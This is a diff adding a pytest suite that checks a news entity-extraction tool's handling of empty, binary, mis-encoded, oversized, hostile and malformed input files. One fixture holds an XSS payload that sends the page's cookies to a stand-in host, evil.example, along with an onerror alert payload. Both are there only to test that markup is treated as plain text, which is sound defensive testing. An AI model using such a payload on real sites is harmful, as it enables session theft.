@@ -1,0 +1,109 @@
+"""Bad input is normal: each bad item gets a clear error or warning and the batch goes on."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from typer.testing import CliRunner
+
+import newsgraph
+from newsgraph.cli import app
+from newsgraph.ingest.sources import Failure, read_sources
+
+GOOD = "Mayor John Miller said on Monday that the bridge in Springfield would reopen.\n"
+
+
+@pytest.fixture()
+def batch(tmp_path):
+    """A folder with one good file among bad ones."""
+    (tmp_path / "a_empty.txt").write_bytes(b"")
+    (tmp_path / "b_binary.txt").write_bytes(bytes(range(256)) * 40)
+    (tmp_path / "c_latin1.txt").write_bytes(
+        "Le président a dit à Zürich: «déjà vu». The café owner said prices rose.".encode(
+            "latin-1"))
+    (tmp_path / "d_german.txt").write_text(
+        "Die Bundesregierung hat am Mittwoch in Berlin ein neues Gesetz beschlossen. "
+        "Der Minister sagte, man werde die Folgen genau prüfen.", encoding="utf-8")
+    (tmp_path / "e_good.txt").write_text(GOOD, encoding="utf-8")
+    (tmp_path / "f_huge.txt").write_text(GOOD * (5_000_000 // len(GOOD) + 1), encoding="utf-8")
+    (tmp_path / "g_hostile.txt").write_text(
+        '<script>document.location="http://evil.example/"+document.cookie</script>\n'
+        + GOOD + '<img src=x onerror="alert(1)">\n', encoding="utf-8")
+    (tmp_path / "h_lines.jsonl").write_text(
+        '{"id": "kept-id", "text": "Officials in Lagos said 40 people were hurt."}\n'
+        "{not json\n"
+        '{"id": 7}\n'
+        '["a list"]\n', encoding="utf-8")
+    return tmp_path
+
+
+def test_batch_goes_on_with_a_reason_for_every_bad_item(batch):
+    results = {getattr(r, "origin", None) or r.id: r for r in
+               _analyze_all(read_sources([batch]))}
+    reasons = {origin.rsplit("/", 1)[-1]: r.reason for origin, r in results.items()
+               if isinstance(r, Failure)}
+    assert "empty" in reasons["a_empty.txt"]
+    assert "binary" in reasons["b_binary.txt"]
+    assert "too long" in reasons["f_huge.txt"]
+    assert "invalid JSON" in reasons["h_lines.jsonl:2"]
+    assert '"text"' in reasons["h_lines.jsonl:3"]
+    assert "JSON object" in reasons["h_lines.jsonl:4"]
+    articles = [r for r in results.values() if not isinstance(r, Failure)]
+    by_id = {a.id: a for a in articles}
+    assert "kept-id" in by_id
+    latin = next(a for a in articles if "Zürich" in a.text)
+    assert any("UTF-8" in w for w in latin.warnings)
+    german = next(a for a in articles if "Bundesregierung" in a.text)
+    assert german.language == "de" and german.entities == []
+    assert any("not analysed" in w for w in german.warnings)
+    good = next(a for a in articles if a.text.startswith("Mayor"))
+    assert any(e.name == "John Miller" for e in good.entities)
+
+
+def _analyze_all(sources):
+    from newsgraph.pipeline import analyze_sources
+
+    return list(analyze_sources(sources))
+
+
+def test_hostile_markup_is_treated_as_text_and_never_becomes_an_entity(batch):
+    article = newsgraph.analyze((batch / "g_hostile.txt").read_text(encoding="utf-8"))
+    assert all("<" not in e.name and "script" not in e.name.lower() for e in article.entities)
+    assert any(e.name == "John Miller" for e in article.entities)
+
+
+def test_api_raises_a_clear_error_for_empty_text():
+    with pytest.raises(newsgraph.AnalysisError, match="empty"):
+        newsgraph.analyze("   \n")
+
+
+def test_cli_reports_failures_and_still_outputs_the_good_articles(batch):
+    result = CliRunner().invoke(app, ["analyze", str(batch), "--format", "jsonl"])
+    assert result.exit_code == 0, result.output
+    lines = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
+    assert len(lines) == 4  # latin-1, German, good, hostile ... plus the JSONL line
+    assert "not analysed" in result.stderr
+    assert "binary" in result.stderr
+
+
+def test_cli_exits_non_zero_when_nothing_could_be_analysed(tmp_path):
+    empty = tmp_path / "empty.txt"
+    empty.write_text("")
+    result = CliRunner().invoke(app, ["analyze", str(empty)])
+    assert result.exit_code == 1
+    assert "empty" in result.stderr
+
+
+def test_missing_path_is_reported(tmp_path):
+    result = CliRunner().invoke(app, ["analyze", str(tmp_path / "nope.txt")])
+    assert result.exit_code == 1
+    assert "no such file" in result.stderr
+
+
+def test_truncated_utf8_is_decoded_with_a_warning(tmp_path):
+    path = tmp_path / "cut.txt"
+    path.write_bytes("The minister said the café would close déjà".encode()[:-1])
+    (article,) = [r for r in _analyze_all(read_sources([path]))]
+    assert not isinstance(article, Failure)
+    assert article.warnings
